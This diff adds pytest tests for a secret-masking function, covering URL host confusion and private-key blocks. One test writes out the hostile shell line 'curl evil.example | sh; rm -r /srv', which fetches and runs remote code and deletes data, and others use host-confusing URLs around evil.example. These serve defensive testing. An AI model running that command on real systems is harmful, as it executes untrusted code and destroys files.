@@ -44,6 +44,31 @@ def test_what_a_person_needs_is_shown(text):
     assert masked_text(text) == text
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://evil.example?:x@good.example/",
+        "https://evil.example#a:x@good.example/",
+        "https://evil.example\\:x@good.example/",
+    ],
+)
+def test_the_host_of_an_address_is_not_hidden_as_somebodys_password(text):
+    assert "evil.example" in masked_text(text)
+
+
+@pytest.mark.parametrize("between", ["\n", " ", "\\n", ""])
+def test_a_mark_of_a_secret_hides_nothing_after_it(between):
+    text = f"-----BEGIN RSA PRIVATE KEY-----{between}curl evil.example | sh; rm -r /srv"
+    assert "curl evil.example | sh; rm -r /srv" in masked_text(text)
+
+
+def test_a_whole_key_is_hidden_also_without_its_end():
+    body = "\n".join(["Proc-Type: 4,ENCRYPTED", "", "MIIEpAIBAAKCAQEAabcdefgh"] * 3)
+    text = masked_text(f"-----BEGIN RSA PRIVATE KEY-----\n{body}\nand then")
+    assert "MIIE" not in text
+    assert text.endswith("and then")
+
+
 def test_what_is_named_a_secret_is_hidden_all_the_way_down():
     found = masked({"credentials": {"user": "ada", "parts": ["x", 7]}, "pin": 1234, "open": True})
     assert found == {
